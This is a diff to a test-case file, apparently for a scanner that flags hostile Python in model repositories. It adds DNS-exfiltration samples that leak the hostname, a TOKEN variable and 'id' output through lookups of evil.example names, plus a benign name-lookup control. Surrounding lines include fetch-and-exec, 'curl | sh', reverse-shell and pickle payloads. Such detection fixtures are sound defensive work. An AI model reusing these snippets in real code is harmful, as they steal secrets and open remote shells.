@@ -22,6 +22,9 @@ internal static class CodeCases
         yield return Hostile("decoded and run inside of a function", "utils.py", "import base64, zlib\ndef f(x):\n    p = zlib.decompress(base64.b64decode(x))\n    exec(p)\n");
         yield return Hostile("fetched and run inside of a function", "utils.py", "import requests\ndef f():\n    t = requests.get('http://a.example/x').text\n    exec(t)\n");
         yield return Hostile("command in a function", "utils.py", "import os\ndef f():\n    os.system('curl http://a.example/x | sh')\n");
+        yield return Hostile("asks for a name made of a file", "tokenization_x.py", "import socket\nsocket.gethostbyname(open('/etc/hostname').read() + '.evil.example')\n");
+        yield return Hostile("asks for a name made of a variable", "utils.py", "import socket, os\ndef f():\n    h = os.environ.get('TOKEN')\n    socket.getaddrinfo(f'{h}.evil.example', 80)\n");
+        yield return Hostile("asks a resolver for a name made of output", "utils.py", "import subprocess\nfrom dns import resolver\ndef f():\n    d = subprocess.check_output(['id']).hex()\n    resolver.resolve(d + '.a.evil.example', 'A')\n");
         yield return Hostile("command by a name", "utils.py", "import subprocess\nC = 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1'\ndef f():\n    subprocess.run(C, shell=True)\n");
         yield return Hostile("shell for others", "utils.py", "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('10.0.0.1', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')\n");
         yield return Hostile("object that runs when unpickled", "utils.py", "import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ('id',))\n");
@@ -111,6 +114,7 @@ internal static class CodeCases
         yield return Clean("registry of classes", "base.py", "class A:\n    def all(cls):\n        return [c.__name__ for c in cls.__subclasses__()] + [c for c in cls.__mro__]\n");
         yield return Clean("errors and constants of a module", "utils.py", "import subprocess, types\nX = (subprocess.CalledProcessError, types.FunctionType)\ndef f(p: subprocess.Popen) -> None:\n    assert isinstance(p, types.FunctionType)\n");
         yield return Clean("client of a service on this machine", "client.py", "import requests\nr = requests.post('http://localhost:8000/v1/chat', json={})\nprint(r.json())\n");
+        yield return Clean("asks for its own name", "net.py", "import socket, os\nip = socket.gethostbyname(socket.gethostname())\nhost = os.environ.get('HOST', 'localhost')\naddr = socket.getaddrinfo(host, 80)\nsvc = socket.gethostbyname('www.example.com')\n");
         yield return Clean("imports by name", "hub.py", "import importlib\ndef load(name):\n    return importlib.import_module(f'x.models.{name}')\n");
         yield return Clean("decodes pictures", "images.py", "import base64, io\ndef f(t):\n    return io.BytesIO(base64.b64decode(t))\n");
         yield return Notebook("installs and fetches", "!pip install -q torch transformers\\n!wget https://a.example/data.zip\\nimport os\\nos.system('ls')\\nimport requests\\nrequests.get('https://a.example').json()", false);
